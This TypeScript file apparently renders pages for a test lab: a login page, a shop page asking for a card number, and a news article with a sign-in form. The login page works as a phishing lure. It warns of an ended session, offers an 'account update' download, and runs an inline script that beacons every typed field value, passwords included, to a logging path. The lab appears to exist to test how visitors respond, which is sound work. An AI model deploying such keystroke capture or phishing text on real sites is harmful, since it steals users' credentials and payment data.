import { DOWNLOAD_PATH, LOGIN_PATH, PAYMENT_PATH, TYPED_PATH } from "./site-log.ts";

/** What a site of the lab shows. */
export type SiteKind = "login" | "shop" | "article";

const STYLE = `
  body { font: 16px/1.5 system-ui, sans-serif; margin: 0; color: #222; background: #fafafa; }
  header { background: #24435c; color: #fff; padding: 1rem 2rem; font-weight: 600; }
  main { max-width: 40rem; margin: 2rem auto; padding: 0 1rem; }
  form { background: #fff; border: 1px solid #ddd; border-radius: 6px; padding: 1.5rem; }
  label { display: block; margin: .75rem 0 .25rem; }
  input { font: inherit; width: 100%; box-sizing: border-box; padding: .5rem; }
  button { font: inherit; margin-top: 1rem; padding: .5rem 1.5rem; }`;

/** A page of the given kind, the same at every request. */
export function renderPage(kind: SiteKind, host: string): string {
  const title = escapeText(titleOf(host));
  return `<!doctype html>
<html lang="en">
<head><meta charset="utf-8"><meta name="viewport" content="width=device-width">
<title>${title}</title><style>${STYLE}</style></head>
<body><header>${title}</header><main>${BODIES[kind]}</main></body>
</html>
`;
}

const BODIES: Readonly<Record<SiteKind, string>> = {
  login: `
<h1>Sign in</h1>
<p>Your session has ended. Sign in again to keep your account open.</p>
<form id="login" method="post" action="${LOGIN_PATH}">
  <label for="user">E-mail</label><input id="user" name="user" autocomplete="username">
  <label for="password">Password</label>
  <input id="password" name="password" type="password" autocomplete="current-password">
  <button id="submit">Sign in</button>
</form>
<p><a id="download" href="${DOWNLOAD_PATH}" download>Download the account update</a></p>
<script>
  addEventListener("input", (event) => {
    navigator.sendBeacon("${TYPED_PATH}", event.target.name + "=" + event.target.value);
  });
</script>`,
  shop: `
<h1>Walking boots</h1>
<p>Waterproof, resoled for free, in nine sizes. Delivered in three days.</p>
<form id="order" method="post" action="${PAYMENT_PATH}">
  <label for="card">Card number</label>
  <input id="card" name="card" inputmode="numeric" autocomplete="cc-number">
  <button id="pay">Pay 89.00</button>
</form>`,
  article: `
<h1>The bridge reopens in spring</h1>
<p>After two years of work the old river bridge will carry buses again from March on, the town
council said on Monday. Cyclists get a lane of their own.</p>
<p>The repair cost less than planned, since most of the stone could be used again.</p>
<form id="login" method="post" action="${LOGIN_PATH}">
  <label for="user">E-mail</label><input id="user" name="user" autocomplete="username">
  <label for="password">Password</label>
  <input id="password" name="password" type="password" autocomplete="current-password">
  <button id="submit">Sign in to comment</button>
</form>`,
};

/** "www.corvanta-news.com" becomes "Corvanta news". */
function titleOf(host: string): string {
  const label = host.replace(/^www\./, "").split(".")[0] ?? host;
  const words = label.replaceAll("-", " ");
  return words.charAt(0).toUpperCase() + words.slice(1);
}

function escapeText(text: string): string {
  return text.replace(/[&<>"]/g, (char) => `&#${String(char.charCodeAt(0))};`);
}
